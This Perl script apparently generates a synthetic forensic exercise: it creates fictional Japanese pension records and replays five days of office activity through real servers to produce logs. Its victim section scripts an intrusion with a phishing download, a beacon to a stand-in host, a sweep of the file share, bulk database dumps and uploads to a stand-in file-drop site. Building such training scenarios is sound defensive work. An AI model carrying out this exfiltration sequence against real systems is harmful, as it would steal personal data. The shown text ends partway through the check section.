# regen.pl - the agency's five days, played through the real servers (part of samples/regen.sh).
# "data": write the people, the share, the web files and the exports; "run": set the servers
# up and play every event in time order, setting the servers' clock (libfaketime's file)
# before each; "check": read the figures back from the logs and compare them with the plan.
use strict;
use warnings;
use utf8;
use DBI;
use Encode qw(encode);
use IO::Socket::INET;
use MIME::Base64 qw(encode_base64);
use POSIX qw(floor);
use Time::HiRes qw(time sleep);
use Time::Local qw(timegm);

my ($T, $mode) = @ARGV;
binmode STDOUT, ':utf8';
binmode STDERR, ':utf8';
$| = 1;

# ------------------------------------------------------------------ random numbers, time
# Park-Miller generator: the same story on every run and every Perl.
my $S = 1;
sub seed { $S = $_[0] % 2147483646 + 1 }
sub rnd { $S = ($S * 48271) % 2147483647; return $S / 2147483647 }
sub ri { int(rnd() * $_[0]) }
sub rr { $_[0] + ri($_[1] - $_[0] + 1) }
sub pick { $_[ri(scalar @_)] }

my $DAY0 = timegm(0, 0, 0, 6, 4, 2015) - 9 * 3600;	# Wed 6 May 2015 00:00 JST
sub at { my ($d, $h, $m, $s) = @_; $DAY0 + (($d * 24 + $h) * 60 + $m) * 60 + $s }
sub jst {
	my $t = shift;
	my @g = gmtime(floor($t) + 9 * 3600);
	sprintf('%04d-%02d-%02d %02d:%02d:%02d.%03d', $g[5] + 1900, $g[4] + 1, $g[3], @g[2, 1, 0],
		int(($t - floor($t)) * 1000));
}

# ------------------------------------------------------------------ fictional people
my @SUR = qw(佐藤:サトウ 鈴木:スズキ 高橋:タカハシ 田中:タナカ 伊藤:イトウ 渡辺:ワタナベ 山本:ヤマモト
	中村:ナカムラ 小林:コバヤシ 加藤:カトウ 吉田:ヨシダ 山田:ヤマダ 佐々木:ササキ 山口:ヤマグチ
	松本:マツモト 井上:イノウエ 木村:キムラ 林:ハヤシ 斎藤:サイトウ 清水:シミズ 山崎:ヤマザキ
	森:モリ 池田:イケダ 橋本:ハシモト 阿部:アベ 石川:イシカワ 前田:マエダ 藤田:フジタ 後藤:ゴトウ 岡田:オカダ);
my @GIV = qw(太郎:タロウ 花子:ハナコ 一郎:イチロウ 和子:カズコ 健一:ケンイチ 洋子:ヨウコ 誠:マコト
	幸子:サチコ 茂:シゲル 節子:セツコ 浩:ヒロシ 美智子:ミチコ 清:キヨシ 久美子:クミコ 修:オサム
	恵子:ケイコ 勇:イサム 京子:キョウコ 博:ヒロシ 由美子:ユミコ 隆:タカシ 明美:アケミ 進:ススム 順子:ジュンコ);
my @PLACE = qw(東京都世田谷区 東京都練馬区 東京都八王子市 神奈川県横浜市港北区 神奈川県川崎市中原区
	埼玉県さいたま市浦和区 千葉県船橋市 大阪府大阪市北区 大阪府堺市堺区 愛知県名古屋市中村区
	福岡県福岡市博多区 北海道札幌市中央区 宮城県仙台市青葉区 広島県広島市中区 静岡県浜松市中区);
my @TOWN = qw(本町 緑町 栄町 旭町 幸町 寿町 中央 東町 西町 南町);

my $FIRST = 100001;
my $LAST = 225000;
my %P;		# the current person: id pn sur surk giv givk y m d place town c b g tel
sub person {
	my ($id) = @_;
	my $keep = $S;
	seed($id * 7919 + 17);
	rnd();
	my ($s, $sk) = split /:/, $SUR[ri(scalar @SUR)];
	my ($g, $gk) = split /:/, $GIV[ri(scalar @GIV)];
	my $days = ri(60 * 365);		# born 1935-01-01 .. about 1994
	my @b = gmtime(timegm(0, 0, 12, 1, 0, 1935) + $days * 86400);
	@b[5, 4, 3] = (89, 0, 7) if $id == 101701;	# the last day of Showa (昭和64年1月7日)
	@b[5, 4, 3] = (89, 0, 8) if $id == 101702;	# the first of Heisei (平成元年1月8日)
	# Basic pension numbers: an affine map of the id onto 1000..9999 x 000001..999999,
	# a bijection (the multiplier is prime to the range), so no two people share one.
	my $v = (($id - $FIRST) * 1000003 + 31415926) % (9000 * 999999);
	my $pn = sprintf('%04d-%06d', 1000 + int($v / 999999), 1 + $v % 999999);
	my $tel = sprintf('%s-%04d-%04d', ri(4) ? '090' : '080', rr(1000, 9999), ri(10000));
	%P = (id => $id, pn => $pn, sur => $s, surk => $sk, giv => $g, givk => $gk,
		y => $b[5] + 1900, m => $b[4] + 1, d => $b[3], tel => $tel);
	address();
	$S = $keep;
}
sub address { @P{qw(place town c b g)} = (pick(@PLACE), pick(@TOWN), rr(1, 5), rr(1, 30), rr(1, 25)) }
sub iso { sprintf('%04d-%02d-%02d', $P{y}, $P{m}, $P{d}) }
sub wareki {
	my ($y, $m, $d) = @P{qw(y m d)};
	my ($e, $n) = $y * 10000 + $m * 100 + $d >= 19890108 ? ('平成', $y - 1988) : ('昭和', $y - 1925);
	return $e . ($n == 1 ? '元' : $n) . "年${m}月${d}日";
}
# A row as the app's API gives it (ASCII space, 1970/03/01, 2-14-3) ...
sub row_api {
	person($_[0]);
	join(',', "$P{sur} $P{giv}", "$P{surk} $P{givk}", sprintf('%04d/%02d/%02d', @P{qw(y m d)}),
		$P{pn}, "$P{place}$P{town}$P{c}-$P{b}-$P{g}", $P{tel});
}
# ... and as the clerks type it in Excel (ideographic space, era dates, 2丁目14番3号).
sub row_list {
	my ($id, $moved) = @_;
	person($id);
	if ($moved) { my $k = $S; seed($id * 31 + 5); address(); $S = $k }
	join(',', "$P{sur}\x{3000}$P{giv}", "$P{surk}\x{3000}$P{givk}", wareki(), $P{pn},
		"$P{place}$P{town}$P{c}丁目$P{b}番$P{g}号", $P{tel});
}
sub db_row {	# id, kiso_nenkin_no, shimei, furigana, seinengappi, jusho, denwa
	person($_[0]);
	join("\t", $P{id}, $P{pn}, "$P{sur} $P{giv}", "$P{surk} $P{givk}", iso(),
		"$P{place}$P{town}$P{c}-$P{b}-$P{g}", $P{tel});
}

sub wfile {	# path, bytes
	my $b = $_[1];
	utf8::encode($b) if utf8::is_utf8($b);
	open my $f, '>:raw', $_[0] or die "$_[0]: $!";
	print $f $b;
	close $f or die "$_[0]: $!";
}
sub noise {	# n pseudo-random bytes (contents of archives and office files)
	my ($n, $sd) = @_;
	my $keep = $S;
	seed($sd);
	my $b = '';
	$b .= pack('N', int(rnd() * 4294967295)) while length($b) < $n;
	$S = $keep;
	return substr($b, 0, $n);
}
sub mkdirs { system('mkdir', '-p', @_) == 0 or die "mkdir @_" }

# ------------------------------------------------------------------ the people at work
my @CLERKS = map { [split /:/] } qw(sato.m:11 suzuki.h:12 takahashi.y:13 watanabe.s:14 ito.a:15
	yamamoto.t:16 nakamura.e:17 kobayashi.r:18 kato.n:19 yoshida.m:20 yamada.h:21 tanaka.k:41);
my %IP = map { ($_->[0] => "10.20.3.$_->[1]") } @CLERKS;
my %PC = map { ($_->[0] => sprintf('NK-PC%03d', $_->[1])) } @CLERKS;
sub pw { "$_[0]-synthetic-pw" }
my $VICTIM = 'tanaka.k';
my $APP = '10.20.0.21';
my $PROXY = '10.20.0.24';
my $IE11 = 'Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko';
my $IE7 = 'Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/7.0; SLCC2; .NET CLR 2.0.50727)';
my @SHARE_MONTHS = qw(01 02 03 04 05);
my $UPLOAD_SIZES = [10485760, 10485760, 10485760, 10485760, 3617280];

# ================================================================== data
if ($mode eq 'data') {
	# The database's people (COPY input) and the app's CSV export of them.
	mkdirs("$T/web/www/export", "$T/web/ext/update-check/images",
		"$T/web/ext/docs-share/dl/0507");
	open my $tsv, '>:utf8', "$T/data/persons.tsv" or die;
	open my $csv, '>:utf8', "$T/web/www/export/persons.csv" or die;
	print $csv "id,kiso_nenkin_no,shimei,furigana,seinengappi,jusho,denwa\r\n";
	for my $id ($FIRST .. $LAST) {
		my $r = db_row($id);
		print $tsv "$r\n";
		$r =~ tr/\t/,/;
		print $csv "$r\r\n";
	}
	close $tsv;
	close $csv;
	wfile("$T/web/www/index.html", "<!DOCTYPE html><html><head><title>年金記録照会</title></head><body></body></html>\n");
	wfile("$T/web/ext/update-check/images/top_bg.jpg", noise(187392, 11));
	wfile("$T/web/ext/docs-share/dl/0507/kikin_minaoshi_shian.lzh", noise(318912, 12));
	open my $h, '>', "$T/web/htpasswd" or die;
	print $h "$_->[0]:{PLAIN}" . pw($_->[0]) . "\n" for @CLERKS;
	print $h "batch01:{PLAIN}" . pw('batch01') . "\n";
	close $h;
	my $n = 0;
	wfile("$T/data/part" . ++$n . ".rar", noise($_, 100 + $n)) for @$UPLOAD_SIZES;

	# The exports the intruder left behind: the merged list (UTF-8, LF) and the clerks'
	# list (CP932, CRLF). 1,700 people from the API walk, then the clerks' list: 240 the
	# API part lacks and 60 it has (20 of whom have moved since).
	my $hdr = '氏名,フリガナ,生年月日,基礎年金番号,住所,電話番号';
	open my $m, '>:utf8', "$T/out/exports/meibo_merged_utf8.csv" or die;
	my $list = "$hdr\r\n";
	print $m "$hdr\n";
	print $m row_api($_), "\n" for $FIRST .. $FIRST + 1699;
	seed(4242);
	my %dup;
	$dup{$FIRST + $_ * 28 + ri(28)} = ($_ % 3 == 0) for 0 .. 59;
	for my $id ($FIRST .. $FIRST + 1939) {
		next if $id < $FIRST + 1700 && !exists $dup{$id};
		my $r = row_list($id, $dup{$id});
		print $m "$r\n";
		$list .= "$r\r\n";
	}
	close $m;
	wfile("$T/out/exports/kojin_meibo_201505_01_sjis.csv", encode('cp932', $list, Encode::FB_CROAK));

	# The share: the clerks' work folders and the management lists the intruder takes.
	my $sh = '/srv/samba/pension';
	mkdirs(map { "$sh/gyomu/$_->[0]" } @CLERKS);
	mkdirs(map { "$sh/kanri/2015/$_" } @SHARE_MONTHS);
	mkdirs("$sh/kanri/old", "$sh/system/dev", "$T/data/put");
	for my $mo (@SHARE_MONTHS) {
		for my $k (1 .. 16) {
			wfile(sprintf('%s/kanri/2015/%s/加入者台帳_2015%s_%02d.xlsx', $sh, $mo, $mo, $k),
				noise(20000 + ($k * 977 + $mo * 131) % 40000, $mo * 100 + $k));
			my $rows = join('', map { row_list($FIRST + 3000 + $mo * 500 + $k * 20 + $_, 0) . "\r\n" } 0 .. 19);
			wfile(sprintf('%s/kanri/2015/%s/kojin_meibo_2015%s_%02d.csv', $sh, $mo, $mo, $k),
				encode('cp932', "$hdr\r\n$rows"));
		}
	}
	wfile("$sh/kanri/old/名簿_2014.csv", encode('cp932', "$hdr\r\n" . row_list(110001, 0) . "\r\n"));
	# A file copied from an old Windows share keeps its CP932 name (旧名簿.csv) on disk.
	wfile("$sh/kanri/old/" . encode('cp932', '旧名簿') . '.csv', encode('cp932', "$hdr\r\n"));
	for my $c (@CLERKS) {
		for my $k (1 .. 6) {
			wfile(sprintf('%s/gyomu/%s/shokai_%02d.docx', $sh, $c->[0], $k), noise(8000 + $k * 1111, $k));
		}
	}
	wfile("$T/data/put/houkoku.xlsx", noise(23456, 77));
	exit 0;
}

# ================================================================== run
# The clock: the offset from the real time, which every server re-reads on each call.
my $fake_now = 0;
if (open my $c, '<', "$T/clock") { $fake_now = <$c> + 0; close $c }
sub setclock {
	my ($t) = @_;
	my $now = time();
	return if $t < $now + $fake_now;	# never backwards
	$fake_now = $t - $now;
	open my $f, '>', "$T/clock.new" or die;
	printf $f "%+.3f\n", $fake_now;
	close $f;
	rename "$T/clock.new", "$T/clock" or die;
}
sub fakenow { time() + $fake_now }

# An HTTP/1.1 exchange over a new connection from the given address, raw bytes both ways:
# the request line goes out exactly as given (a legacy client's Shift_JIS included).
sub http {
	my (%a) = @_;
	my $s = IO::Socket::INET->new(PeerAddr => $a{to}, PeerPort => $a{port} // 80,
		LocalAddr => $a{from}, Proto => 'tcp') or die "connect $a{to} from $a{from}: $!";
	binmode $s;
	my $req = "$a{line}\r\n";
	$req .= "$_\r\n" for @{$a{h} // []};
	$req .= "Content-Length: " . length($a{body}) . "\r\n" if defined $a{body};
	$req .= "Connection: close\r\n\r\n";
	print $s $req;
	print $s $a{body} if defined $a{body};
	local $/;
	my $resp = <$s> // '';
	close $s;
	my ($code) = $resp =~ m{^HTTP/1\.[01] (\d+)};
	return $code // 0;
}
sub auth { 'Authorization: Basic ' . encode_base64("$_[0]:" . pw($_[0]), '') }
sub web {	# who (account or undef), from, path, user agent, referer
	my ($u, $from, $path, $ua, $ref) = @_;
	my @h = ('Host: nenkin-app01', "User-Agent: $ua", 'Accept: */*');
	push @h, "Referer: $ref" if $ref;
	push @h, auth($u) if $u;
	http(from => $from, to => $APP, line => "GET $path HTTP/1.1", h => \@h);
}
sub via_proxy {	# from, method, url, user agent, body, content type
	my ($from, $m, $url, $ua, $body, $ct) = @_;
	my ($host) = $url =~ m{^http://([^/]+)};
	my @h = ("Host: $host", "User-Agent: $ua", 'Accept: */*');
	push @h, "Content-Type: $ct" if $ct;
	http(from => $from, to => $PROXY, port => 3128, line => "$m $url HTTP/1.1", h => \@h,
		body => $body);
}

# The app's pool: four connections as nenkin_app from the app server, opened on 5 May.
my (@pool, $pooli);
my $PERSON_SQL = 'SELECT id, kiso_nenkin_no, shimei, furigana, seinengappi, jusho, denwa FROM persons WHERE id = $1';
sub pg { DBI->connect("dbi:Pg:dbname=$_[2];host=$_[1];port=5432", $_[0], pw($_[0]),
	{ RaiseError => 1, PrintError => 0, AutoCommit => 1 }) }
sub app_query {	# sql, params...
	my ($sql, @p) = @_;
	my $dbh = $pool[$pooli++ % @pool];
	my $sth = $dbh->prepare_cached($sql);
	$sth->execute(@p);
	my $n = 0;
	$n++ while $sth->fetchrow_arrayref;
	return $n;
}

# psql and pg_dump as the database's admin over the Unix socket.
my $PGBIN = $ENV{BK_PGBIN};
sub admin_sql {
	my ($db, $sql) = @_;
	open my $p, '|-', "$PGBIN/psql", '-X', '-q', '-v', 'ON_ERROR_STOP=1', '-h', "$T/pg", '-U',
		'postgres', '-d', $db or die;
	binmode $p, ':utf8';
	print $p $sql;
	close $p or die "psql failed";
}
sub logrotate_all {
	my ($day) = @_;		# the day that ends now, YYYYMMDD
	rename "$T/web/logs/access.log", "$T/web/logs/access.log.$day" or die;
	kill 'USR1', $ENV{BK_WEB_PID};
	rename "$T/proxy/access.log", "$T/proxy/access.log.$day" or die;
	system('squid', '-k', 'rotate', '-f', "$T/proxy/squid.conf") == 0 or die;
	system('setpriv', '--reuid=nobody', '--regid=nogroup', '--clear-groups', '--',
		"$PGBIN/pg_ctl", 'logrotate', '-s', '-D', $ENV{BK_PGDATA}) == 0 or die;
	sleep 0.5;
}

# SMB sessions: smbclient fed one command at a time (the server logs as it serves).
my %smb;
sub smb_open {
	my ($u) = @_;
	open my $p, '|-', "smbclient //$IP{$u}/pension -p 139 -n $PC{$u} -U '$u%" . pw($u) .
		"' -s $T/fs/client.conf > /dev/null 2>&1" or die;
	binmode $p, ':utf8';
	select((select($p), $| = 1)[0]);
	$smb{$u} = $p;
	sleep 0.8;
}
sub smb_cmd { my ($u, $c, $wait) = @_; print { $smb{$u} } "$c\n"; sleep($wait // 0.25) }
sub smb_close { my ($u) = @_; print { $smb{$u} } "exit\n"; close $smb{$u}; delete $smb{$u}; sleep 0.3 }

# ------------------------------------------------------------------ the plan
my @EV;		# [time, seq, sub]
my $seq = 0;
sub ev { my ($t, $f) = @_; push @EV, [$t, ++$seq, $f] }
my %truth;
sub tv { $truth{$_[0]} = $_[1] }
sub tadd { $truth{$_[0]} = ($truth{$_[0]} // 0) + $_[1] }

my @DAYS = (	# day index, kind, who is in
	[0, 'holiday', [qw(sato.m kato.n)]],
	[1, 'work', [map { $_->[0] } @CLERKS]],
	[2, 'work', [map { $_->[0] } @CLERKS]],
	[3, 'off', []], [4, 'off', []]);
my $END = at(5, 8, 0, 0);		# Mon 11 May 08:00 JST: evidence collected

sub plan {
	seed(20150508);
	# Midnight: logrotate and PostgreSQL's new file.
	for my $d (0 .. 5) {
		my @g = gmtime(at($d, 0, 0, 0) - 86400 + 9 * 3600);
		my $tag = sprintf('%04d%02d%02d', $g[5] + 1900, $g[4] + 1, $g[3]);
		ev(at($d, 0, 0, 0), sub { logrotate_all($tag) });
	}
	# The nightly backup at 02:00: pg_dump as postgres over the socket.
	for my $d (0 .. 5) {
		ev(at($d, 2, 0, 0) + ri(3), sub {
			system("'$PGBIN/pg_dump' -h '$T/pg' -U postgres -t jimusho -t nofu_kiroku -t persons nenkin > /dev/null") == 0 or die "pg_dump";
		});
		tadd('pg.backups', 1);
	}
	# Monitoring: /healthz every 300 s.
	for (my $t = at(0, 0, 2, 17); $t < $END; $t += 300) {
		ev($t, sub { web(undef, '10.20.0.5', '/healthz', 'Zabbix') });
		tadd('web.healthz', 1);
	}
	for my $day (@DAYS) {
		my ($d, $kind, $who) = @$day;
		for my $u (@$who) {
			my $arrive = at($d, 8, 20, 0) + ri(50 * 60);
			my $leave = at($d, 17, 30, 0) + ri(70 * 60);
			if ($kind eq 'holiday') { $arrive = at($d, 8, 50, 0) + ri(20 * 60); $leave = at($d, 16, 0, 0) + ri(30 * 60) }
			my $last = $leave - 600;
			if ($u eq $VICTIM && $d == 2) { $leave = at(2, 17, 41, 0); $last = at(2, 17, 28, 33) }
			clerk_day($u, $d, $kind, $arrive, $leave, $last);
			# The antivirus checks for updates hourly while the PC is on.
			next if $u eq $VICTIM && $d == 2;	# his PC has been on since Thursday
			my $t0 = $arrive + 60 + ri(3600);
			my $stop = $u eq $VICTIM && $d == 1 ? $END : $leave + 120;
			for (my $t = $t0; $t < $stop; $t += 3600) {
				ev($t, sub { via_proxy($IP{$u}, 'GET', 'http://av-update.example/sig/daily.ver', 'AVUpdate/5.2') });
				tadd("proxy.av.$u", 1);
			}
		}
	}
	victim();
	# yamamoto.t prints 900 records at once (benign; one long URL).
	my @ids = map { 150000 + $_ * 37 } 0 .. 899;
	ev(at(1, 14, 22, 10), sub { app_query('SELECT id, kiso_nenkin_no, shimei, furigana, seinengappi, jusho, denwa FROM persons WHERE id = ANY($1) ORDER BY id', \@ids) });
	ev(at(1, 14, 22, 11), sub { web('yamamoto.t', $IP{'yamamoto.t'}, '/records/batch?ids=' . join(',', @ids), $IE11, 'http://nenkin-app01/records/search') });
	tv('web.batch.ids', scalar @ids);
	# The legacy batch client sends a Shift_JIS search: percent-encoded, then raw.
	ev(at(1, 11, 5, 33), sub { web('batch01', '10.20.0.31', '/records/search?q=%83%5E%83i%83J', 'NenkinBatch/1.0') });
	ev(at(1, 11, 5, 35), sub { web('batch01', '10.20.0.31', "/records/search?q=\x83\x5e\x83\x69\x83\x4a", 'NenkinBatch/1.0') });
}

sub clerk_day {
	my ($u, $d, $kind, $arrive, $leave, $last) = @_;
	my $ip = $IP{$u};
	ev($arrive, sub { web(undef, $ip, '/', $IE11) });		# 401: no credentials yet
	ev($arrive + 2, sub { web($u, $ip, '/', $IE11) });
	ev($arrive + 40, sub { smb_open($u) });
	ev($leave, sub { smb_close($u) });
	tadd('smb.sessions', 1);
	# Lookups: a search now and then, then the person's page.
	my $k = $kind eq 'holiday' ? rr(10, 11) : rr(26, 35);
	my %seen;
	my @times = sort { $a <=> $b } map { office_time($arrive + 600, $last) } 1 .. $k;
	$times[-1] = $last if $u eq $VICTIM && $d == 2;
	for my $t (@times) {
		my $id;
		do { $id = rr(103001, $LAST) } while $seen{$id}++;
		if (ri(2)) {
			my $q = (split /:/, pick(@SUR))[1];
			my $qs = join('', map { sprintf('%%%02X', ord) } split //, encode('UTF-8', $q));
			ev($t - 20 - ri(20), sub {
				app_query('SELECT id, shimei, furigana, seinengappi FROM persons WHERE furigana LIKE $1 ORDER BY id LIMIT 20', "$q %");
				web($u, $ip, "/records/search?q=$qs", $IE11, 'http://nenkin-app01/');
			});
		}
		ev($t, sub {
			app_query($PERSON_SQL, $id);
			web($u, $ip, "/records/person/$id", $IE11, 'http://nenkin-app01/records/search');
		});
		tadd("web.views.$u.$d", 1);
	}
	# The share: a few documents read, sometimes a report written.
	my $n = rr(2, 8);
	for my $j (1 .. $n) {
		my $t = office_time($arrive + 120, $leave - 120);
		if (ri(4) == 0) {
			my $name = sprintf('gyomu\\%s\\houkoku_%d%02d.xlsx', $u, $d + 6, $j);
			ev($t, sub { smb_cmd($u, "put $T/data/put/houkoku.xlsx $name") });
		} else {
			my $f = sprintf('gyomu\\%s\\shokai_%02d.docx', $u, rr(1, 6));
			ev($t, sub { smb_cmd($u, "get $f /dev/null") });
		}
	}
	# A few pages on the Internet.
	for (1 .. rr(1, 4)) {
		my $t = office_time($arrive + 300, $leave - 300);
		my $url = pick('http://www.example.com/', 'http://news.example.org/today', 'http://news.example.org/economy/0507');
		ev($t, sub { via_proxy($ip, 'GET', $url, $IE11) });
	}
}
sub office_time {	# a random time in [from, to], not in the lunch break
	my ($from, $to) = @_;
	for (;;) {
		my $t = $from + ri($to - $from);
		my $h = ($t - $DAY0) % 86400;
		return $t + ri(1000) / 1000 unless $h >= 12 * 3600 && $h < 12 * 3600 + 50 * 60;
	}
}

sub victim {
	my $ip = $IP{$VICTIM};
	# Thursday: the phishing link, the dropper, the beacon, the second stage.
	ev(at(1, 10, 12, 41), sub { via_proxy($ip, 'GET', 'http://docs-share.example/dl/0507/kikin_minaoshi_shian.lzh', $IE11) });
	ev(at(1, 10, 31, 18), sub { via_proxy($ip, 'GET', 'http://update-check.example/images/top_bg.jpg', $IE7) });
	my $t = at(1, 10, 14, 2);
	my $n = 0;
	while ($t < $END - 60) {
		my $id = sprintf('%08x', 0x5a17c3e1);
		ev($t, sub { via_proxy($ip, 'GET', "http://update-check.example/cgi-bin/check.cgi?id=$id&t=" . ++$n, $IE7) });
		tadd('proxy.beacons', 1);
		$t += 270 + ri(61);
	}
	# Friday evening. The share first: every list under kanri/, and a dump.
	ev(at(2, 18, 55, 12), sub { smb_open($VICTIM) });
	my @files;
	for my $mo (@SHARE_MONTHS) {
		push @files, ["ls kanri\\2015\\$mo\\*"];
		push @files, ["get kanri\\2015\\$mo\\desktop.ini /dev/null"] if $mo <= 5;
		for my $k (1 .. 16) {
			push @files, [sprintf('get kanri\\2015\\%s\\加入者台帳_2015%s_%02d.xlsx /dev/null', $mo, $mo, $k), 1];
			push @files, [sprintf('get kanri\\2015\\%s\\kojin_meibo_2015%s_%02d.csv /dev/null', $mo, $mo, $k), 1];
		}
	}
	unshift @files, ['ls *'], ['ls kanri\\*'], ['ls kanri\\2015\\*'];
	# Listing kanri/old makes smbd open the file whose name is not UTF-8 (it is not listed
	# to the client, so it cannot be copied): one file more read than copied.
	push @files, ['ls kanri\\old\\*', 1], ['get kanri\\old\\名簿_2014.csv /dev/null', 1],
		['ls system\\*'], ['ls system\\dev\\*'], ['get system\\dev\\persons_dump_20150401.sql /dev/null', 1];
	my $span = at(2, 19, 5, 34) - at(2, 18, 55, 14);
	my $i = 0;
	for my $c (@files) {
		my $tt = at(2, 18, 55, 14) + int($span * $i++ / (@files - 1));
		ev($tt, sub { smb_cmd($VICTIM, $c->[0]) });
		tadd('smb.sweep.files', 1) if $c->[1];
	}
	ev(at(2, 19, 6, 37), sub { smb_close($VICTIM) });
	# The web app's JSON API: three probes, then person after person; then the export.
	my @probe = (1, 1000, 100000);
	for my $j (0 .. 2) {
		ev(at(2, 19, 33, 48) + 5 * $j, sub { app_query($PERSON_SQL, $probe[$j]); web($VICTIM, $ip, "/api/persons/$probe[$j]", $IE7) });
	}
	my $w0 = at(2, 19, 34, 5);
	my $w1 = at(2, 20, 13, 58);
	for my $id ($FIRST .. $FIRST + 2999) {
		my $tt = $w0 + ($w1 - $w0) * ($id - $FIRST) / 2999;
		ev($tt, sub { app_query($PERSON_SQL, $id); web($VICTIM, $ip, "/api/persons/$id", $IE7) });
	}
	tv('web.walk.first', $FIRST);
	tv('web.walk.last', $FIRST + 2999);
	ev(at(2, 20, 30, 58) + 0.3, sub { tv('pg.export.rows', app_query('SELECT id, kiso_nenkin_no, shimei, furigana, seinengappi, jusho, denwa FROM persons ORDER BY id')) });
	ev(at(2, 20, 31, 7), sub { web($VICTIM, $ip, '/export/persons.csv?scope=all', $IE7) });
	# psql with his password, from his PC.
	my $psql;
	ev(at(2, 20, 46, 12), sub {
		$ENV{PGPASSWORD} = pw($VICTIM);
		open $psql, '|-', "'$PGBIN/psql' -X -h $ip -U $VICTIM -d nenkin > /dev/null 2>&1" or die;
		binmode $psql, ':utf8';
		select((select($psql), $| = 1)[0]);
		sleep 0.8;
	});
	my @s = ([at(2, 20, 46, 40), 'SELECT count(*) FROM persons;'],
		[at(2, 20, 47, 9), 'SELECT * FROM person LIMIT 5;'],
		[at(2, 20, 47, 21), 'SELECT * FROM persons LIMIT 5;'],
		[at(2, 20, 48, 3), 'SELECT * FROM persons;'],
		[at(2, 20, 52, 30), '\q']);
	for my $x (@s) {
		ev($x->[0], sub { print $psql "$x->[1]\n"; sleep($x->[1] =~ /persons;$/ ? 3 : 0.5) });
	}
	ev(at(2, 20, 52, 31), sub { close $psql; delete $ENV{PGPASSWORD} });
	# A second tool, written on Windows: the statement has a CR LF in it.
	my $dbh;
	ev(at(2, 20, 58, 3), sub { $dbh = pg($VICTIM, $ip, 'nenkin') });
	ev(at(2, 20, 58, 24), sub {
		$dbh->do("COPY persons\r\n  TO STDOUT");
		my ($row, $n) = ('', 0);
		$n++ while $dbh->pg_getcopydata($row) >= 0;
		tv('pg.copy.rows', $n);
	});
	ev(at(2, 20, 58, 25), sub { $dbh->disconnect });
	# The archives go out through the proxy to a file-drop site.
	ev(at(2, 21, 25, 58), sub { via_proxy($ip, 'GET', 'http://upload.filedrop.example/', $IE7) });
	my @up = (at(2, 21, 26, 41), at(2, 21, 37, 12), at(2, 21, 48, 55), at(2, 22, 3, 30), at(2, 22, 17, 2));
	for my $j (0 .. 4) {
		my $vol = sprintf('backup.part%d.rar', $j + 1);
		my $b = '----------------------------7df2b13a0b0e';
		my $body = "--$b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"$vol\"\r\n" .
			"Content-Type: application/octet-stream\r\n\r\n";
		ev($up[$j], sub {
			open my $f, '<:raw', "$T/data/part" . ($j + 1) . '.rar' or die;
			local $/;
			my $all = $body . <$f> . "\r\n--$b--\r\n";
			close $f;
			tadd('proxy.upload.body_bytes', length $all);
			via_proxy($ip, 'POST', 'http://upload.filedrop.example/u/put.php', $IE7, $all, "multipart/form-data; boundary=$b");
		});
		tadd('proxy.uploads', 1);
	}
}

if ($mode eq 'run') {
	setclock(timegm(0, 0, 21, 5, 4, 2015) - 9 * 3600);
	# Set-up on 5 May (that day's logs are not kept): the database, its roles, a test copy
	# of the table, dumped with pg_dump --inserts (the intruder finds it on the share).
	my $cols = "id integer PRIMARY KEY,\n\tkiso_nenkin_no char(11) NOT NULL UNIQUE,\n\tshimei text NOT NULL,\n\tfurigana text NOT NULL,\n\tseinengappi date NOT NULL,\n\tjusho text NOT NULL,\n\tdenwa text NOT NULL";
	admin_sql('postgres', "CREATE DATABASE nenkin;\nCREATE DATABASE nenkin_test;\n");
	my $roles = "CREATE ROLE nenkin_app LOGIN PASSWORD '" . pw('nenkin_app') . "';\n";
	$roles .= "CREATE ROLE \"$_->[0]\" LOGIN PASSWORD '" . pw($_->[0]) . "';\n" for @CLERKS;
	admin_sql('postgres', $roles);
	my $grants = join('', map { "GRANT SELECT ON persons TO \"$_->[0]\";\n" } @CLERKS);
	admin_sql('nenkin', "CREATE TABLE persons (\n\t$cols\n);\n\\copy persons FROM '$T/data/persons.tsv'\n" .
		"CREATE TABLE jimusho (id integer PRIMARY KEY, name text NOT NULL);\n" .
		"INSERT INTO jimusho SELECT g, '年金事務所' || g FROM generate_series(1, 312) g;\n" .
		"CREATE TABLE nofu_kiroku (person_id integer NOT NULL, nengetsu char(6) NOT NULL, gaku integer NOT NULL);\n" .
		"INSERT INTO nofu_kiroku SELECT 100000 + g, '2015' || lpad((1 + g % 4)::text, 2, '0'), 15590 FROM generate_series(1, 20000) g;\n" .
		"GRANT SELECT ON persons, jimusho, nofu_kiroku TO nenkin_app;\n$grants");
	admin_sql('nenkin_test', "CREATE TABLE persons (\n\t$cols\n);\n\\copy persons FROM PROGRAM 'head -n 200 $T/data/persons.tsv'\n");
	system("'$PGBIN/pg_dump' --inserts -h '$T/pg' -U postgres -t persons nenkin_test > '$T/out/exports/persons_dump_20150401.sql'") == 0 or die;
	system('cp', "$T/out/exports/persons_dump_20150401.sql", '/srv/samba/pension/system/dev/') == 0 or die;
	system('chgrp', '-R', 'kanri', '/srv/samba/pension') == 0 or die;
	system('chmod', '-R', 'g+rwX', '/srv/samba/pension') == 0 or die;
	setclock(timegm(0, 55, 23, 5, 4, 2015) - 9 * 3600);
	@pool = map { pg('nenkin_app', $APP, 'nenkin') } 1 .. 4;
	$pooli = 0;

	plan();
	@EV = sort { $a->[0] <=> $b->[0] || $a->[1] <=> $b->[1] } @EV;
	printf STDERR "regen: %d events from %s to %s JST\n", scalar @EV, jst($EV[0][0]), jst($EV[-1][0]);
	my $k = 0;
	for my $e (@EV) {
		setclock($e->[0]);
		$e->[2]->();
		printf STDERR "regen: %d events done, clock at %s\n", $k, jst(fakenow()) if ++$k % 1000 == 0;
	}
	open my $f, '>', "$T/plan.txt" or die;
	print $f "$_=$truth{$_}\n" for sort keys %truth;
	close $f;
	# The app stays connected while the evidence is collected: say "done" and wait.
	open my $d, '>', "$T/driven" or die;
	close $d;
	sleep 0.2 until -e "$T/collected";
	$_->disconnect for @pool;
	exit 0;
}

# ================================================================== check
# The ground truth read back from the logs, printed as key=value lines, and compared with
# what was driven (plan.txt); any difference is an error.
if ($mode eq 'check') {
	my %plan;
	open my $f, '<', "$T/plan.txt" or die;
	while (<$f>) { chomp; my ($k, $v) = split /=/, $_, 2; $plan{$k} = $v }
	close $f;
	my $L = "$T/out/logs";
	my %got;
	sub lines {	# files (plain or .gz) -> list of lines, in the given order
		my @l;
		for my $p (@_) {
			open my $h, '-|', 'gzip', '-dcf', $p or die "$p: $!";
			push @l, <$h>;
